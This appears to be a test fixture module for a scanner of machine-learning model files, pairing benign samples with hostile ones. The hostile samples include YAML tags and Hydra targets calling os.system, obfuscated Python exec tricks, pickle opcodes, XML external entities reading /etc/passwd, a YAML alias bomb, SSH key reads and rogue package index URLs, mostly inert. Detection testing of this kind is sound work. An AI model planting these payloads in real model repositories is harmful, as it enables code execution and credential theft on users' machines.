"""The files around the weights: configurations, code, YAML, XML, cards, requirements."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

from tests.artifacts.builders.template_texts import ATTACKS, CHAT

EVIL = ATTACKS["plain"]
OBFUSCATED = ATTACKS["dict-join"]


def text(value: Any) -> bytes:
    return json.dumps(value, indent=1).encode()


def module(kind: str, path: str = "0_Transformer") -> dict[str, Any]:
    return {"idx": 0, "name": "0", "path": path, "type": kind}


def python(body: str) -> bytes:
    return f"import os\nimport torch\n\n\n{body}\n".encode()


CLASS = "class Model(torch.nn.Module):\n    def forward(self, x):\n        return {}\n"
BOMB = "a0: &a0 [x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
)

HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "hub/auto-map": lambda: text({"auto_map": {"AutoModel": "modeling_evil.Model"}}),
    "hub/auto-map-elsewhere": lambda: text({"auto_map": {"AutoModel": "evil/repo--m.Model"}}),
    "hub/auto-map-tokenizer": lambda: text({"auto_map": {"AutoTokenizer": [None, "tok.Tok"]}}),
    "hub/trust-remote-code": lambda: text({"model": {"trust_remote_code": True}}),
    "hub/custom-pipelines": lambda: text({"custom_pipelines": {"p": {"impl": "pipe.Pipe"}}}),
    "hub/custom-pipeline": lambda: text(
        {"_class_name": ["my_pipeline", "Pipe"], "_diffusers_version": "0.30"}
    ),
    "hub/pipeline-component": lambda: text(
        {"_class_name": "P", "_diffusers_version": "0", "unet": ["evil_module", "Unet"]}
    ),
    "hub/template": lambda: text({"chat_template": CHAT + EVIL}),
    "hub/template-obfuscated": lambda: text({"chat_template": CHAT + OBFUSCATED}),
    "hub/template-named": lambda: text(
        {"chat_template": [{"name": "default", "template": CHAT}, {"name": "t", "template": EVIL}]}
    ),
    "hub/template-nested": lambda: text({"processor": {"chat_template": EVIL}}),
    "hub/index-slip": lambda: text({"weight_map": {"w": "../../../etc/passwd"}}),
    "hub/index-absolute": lambda: text({"weight_map": {"w": "/etc/passwd"}}),
    "hub/modules": lambda: text([module("evil_package.Module")]),
    "hub/modules-of-os": lambda: text([module("os.system")]),
    "hub/modules-slip": lambda: text([module("sentence_transformers.models.Dense", "../../x")]),
    "hub/adapter-library": lambda: text({"auto_mapping": {"parent_library": "evil_package"}}),
    "hub/hydra-target": lambda: text({"model": {"_target_": "os.system", "command": "echo"}}),
    "hub/many-settings-twice": lambda: (
        b'{"w":0,' + b",".join(b'"t%d":%d' % (n, n * n) for n in range(20)) + b',"w":900}'
    ),
    "hub/settings-twice": lambda: b'{"vocab_size":3,"hidden_size":9,"vocab_size":4}',
    "mlflow/loader-module": lambda: b"flavors:\n  python_function:\n    loader_module: evil_pkg\n",
    "mlflow/loader-of-os": lambda: b"flavors:\n  python_function:\n    loader_module: subprocess\n",
    "mlflow/code": lambda: b"flavors:\n  python_function:\n    code: code\n    x: 1\n",
    "yaml/tag-apply": lambda: b"model: !!python/object/apply:os.system ['echo inert']\n",
    "yaml/code": lambda: b"model:\n  init_code: \"exec('import os')\"\n",
    "yaml/code-broken": lambda: b'model:\n  init: "exec(\'f("x")\')"\n',
    "yaml/tag-long": lambda: b"a: !<tag:yaml.org,2002:python/object/new:os.system> [x]\n",
    "yaml/tag-handle": lambda: (
        b"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n"
    ),
    "yaml/target": lambda: b"model:\n  _target_: subprocess.Popen\n  args: [echo]\n",
    "yaml/alias-bomb": BOMB.encode,
    "yaml/deep": lambda: b"license: " + b"[" * 20_000,
    "python/import-time": lambda: python("os.system('echo inert')"),
    "python/eval-import-time": lambda: python("eval(open('x').read())"),
    "python/in-init": lambda: python(
        "class M:\n    def __init__(self):\n        os.popen('echo inert')"
    ),
    "python/alias": lambda: python("from os import system as relu\nrelu('echo inert')"),
    "python/getattr": lambda: python("getattr(os, 'sys' + 'tem')('echo inert')"),
    "python/import-hidden": lambda: python("__import__('subpro' 'cess').run(['echo'])"),
    "python/builtins-item": lambda: python("__builtins__['ex' + 'ec']('1')"),
    "python/module-dictionary": lambda: python("os.__dict__['system']('echo inert')"),
    "python/modules": lambda: python("import sys\nsys.modules['os'].system('echo inert')"),
    "python/joined": lambda: python("n = ''.join(['po', 'pen'])\ngetattr(os, n)('echo')"),
    "python/reversed": lambda: python("getattr(os, 'metsys'[::-1])('echo inert')"),
    "python/default": lambda: python("def f(x=os.system('echo inert')):\n    return x"),
    "python/reduce": lambda: python(
        "class P:\n    def __reduce__(self):\n        return (os.system('x'), ())"
    ),
    "python/encoded": lambda: python(
        "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))"
    ),
    "python/pickled": lambda: python("import pickle\npickle.loads(b'cos\\nsystem\\n.')"),
    "python/socket": lambda: python("import socket\nsocket.create_connection(('127.0.0.1', 9))"),
    "python/library": lambda: python("import ctypes\nctypes.CDLL('./evil.so')"),
    "python/secrets": lambda: python("k = open('/root/.ssh/id_rsa').read()"),
    "xml/pmml-entity": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<PMML version="4.4">&x;</PMML>'
    ),
    "xml/openvino-entity": lambda: (
        b'<!DOCTYPE n [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><net name="&b;" version="11"/>'
    ),
    "xml/parameter-entity": lambda: (
        b'<!DOCTYPE p SYSTEM "http://example.invalid/x.dtd"><PMML version="4.4"/>'
    ),
    "xml/utf-16": lambda: (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE p [<!ENTITY a "b">]><PMML/>'
    ).encode("utf-16"),
    "xml/unknown-encoding": lambda: b'<?xml version="1.0" encoding="UUF-16"?><PMML/>',
    "xml/include": lambda: (
        b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></PMML>'
    ),
    "xml/openvino-extension": lambda: (
        b'<net name="m" version="11"><layers><layer id="0" name="l" type="Evil" '
        b'version="extension"/></layers></net>'
    ),
    "xml/openvino-library": lambda: (
        b"<net version='10'><layers><layer id='1' name='l' type='Custom' library='evil.so'/>"
        b"</layers></net>"
    ),
    "xml/openvino-library-of-the-data": lambda: (
        b"<net version='10'><layers><layer id='1' name='l' type='Custom'>"
        b"<data path='/lib/evil.so'/></layer></layers></net>"
    ),
    "hub/tensorflow-js": lambda: text(
        {"format": "layers-model", "weightsManifest": [{"paths": ["../../.ssh/id_rsa"]}]}
    ),
    "xml/openvino-python": lambda: (
        b"<net version='10'><layers><layer id='1' name='l' type='Python'/></layers></net>"
    ),
    "xml/pmml-address": lambda: (
        b'<PMML version="4.4"><Header><Extension value="http://x.invalid/a"/></Header></PMML>'
    ),
    "xml/pmml-function": lambda: (
        b'<PMML version="4.4"><Apply function="java.lang.Runtime.getRuntime"/></PMML>'
    ),
    "card/tag": lambda: b"---\nlicense: !!python/object/apply:os.system [x]\n---\n# Model\n",
    "conda/address": lambda: b"name: x\ndependencies:\n- pip:\n  - git+https://x.invalid/a.git\n",
    "conda/flow": lambda: (
        b'dependencies: [python=3.11, {pip: ["--index-url http://x.invalid/s"]}]\n'
    ),
    "conda/channel": lambda: b"channels:\n- https://x.invalid/c\ndependencies:\n- numpy=1.26\n",
    "mlflow/python-env": lambda: (
        b"python: 3.11\ndependencies:\n- --extra-index-url http://x.invalid/simple\n- torch\n"
    ),
    "requirements/address": lambda: b"torch>=2\nhttps://example.invalid/evil.whl\nnumpy==1.26\n",
    "requirements/index": lambda: b"--extra-index-url https://example.invalid/simple\ntorch==2.4\n",
}
BENIGN: Mapping[str, Callable[[], bytes]] = {
    "hub/config": lambda: text({"architectures": ["LlamaForCausalLM"], "hidden_size": 64}),
    "hub/tokenizer": lambda: text({"chat_template": CHAT, "model_max_length": 4096}),
    "hub/index": lambda: text({"weight_map": {"w": "model-00001-of-00002.safetensors"}}),
    "hub/modules": lambda: text([module("sentence_transformers.models.Transformer")]),
    "hub/diffusers": lambda: text(
        {"_class_name": "P", "_diffusers_version": "0", "unet": ["diffusers", "UNet2DModel"]}
    ),
    "hub/tensorflow-js": lambda: text(
        {"format": "layers-model", "weightsManifest": [{"paths": ["group1-shard1of1.bin"]}]}
    ),
    "hub/lines": lambda: b'{"a": 1}\n{"a": 2}\n',
    "mlflow/sklearn": lambda: (
        b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: m.pkl\n"
    ),
    "yaml/status": lambda: b"responses:\n  - code: 200\n    text: fine\n  - code: E_BAD\n",
    "yaml/plain": lambda: b"# settings\nmodel: &m {a: 1}\nother: *m\nlicense: mit\n",
    "yaml/words": lambda: b"model:\n  about: how to exec (run) it\n  mode: eval\n",
    "yaml/tuple": lambda: b"size: !!python/tuple [1, 2]\n",
    "python/model": lambda: python(CLASS.format("torch.load(x)")),
    "python/tool": lambda: python(
        "if __name__ == '__main__':\n    print(os.environ.get('HOME'), eval('1 + 1'))"
    ),
    "xml/pmml": lambda: b'<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>',
    "xml/pmml-functions": lambda: (
        b'<PMML version="4.4"><Apply function="x-evaluate"/>'
        b'<Apply function="com.example.Scale"/></PMML>'
    ),
    "xml/openvino": lambda: (
        b'<net name="m" version="11"><layers><layer id="0" name="l" type="Parameter" '
        b'version="opset1"/></layers></net>'
    ),
    "card/licence": lambda: (
        b"---\nlicense: apache-2.0\ntags: [a]\n---\n# Model\n\nUse `{{ x }}`.\n"
    ),
    # Not a pickle that makes an object (opcode o) of nothing.
    "card/label": lambda: b"(onnx-tutorial)=\n\n# Introduction\n\nThis describes the concepts.\n",
    "conda/plain": lambda: (
        b"channels:\n- conda-forge\n- https://conda.anaconda.org/pytorch\n"
        b"dependencies:\n- python=3.11\n"
        b"- pip:\n  - --extra-index-url https://download.pytorch.org/whl/cpu\n  - torch==2.4\n"
    ),
    "conda/commit": lambda: (
        b"dependencies:\n- pip:\n  - git+https://github.com/a/b.git@" + b"0a" * 20 + b"\n"
    ),
    "yaml/chart": lambda: (
        b"dependencies:\n- name: redis\n  repository: https://charts.example.invalid\n"
    ),
    "hub/small-vocabulary-with-a-word-twice": lambda: (
        b'{"w":0,' + b",".join(b'"t%d":%d' % (n, n + 1) for n in range(20)) + b',"w":21}'
    ),
    "hub/vocabulary-with-a-word-twice": lambda: (
        b'{"model":{"vocab":{"w":0,'
        + b",".join(b'"t%d":%d' % (n, n) for n in range(300))
        + b',"w":9}}}'
    ),
    "requirements/plain": lambda: b"# needed\ntorch>=2.1,<3\nnumpy==1.26.4\n",
}
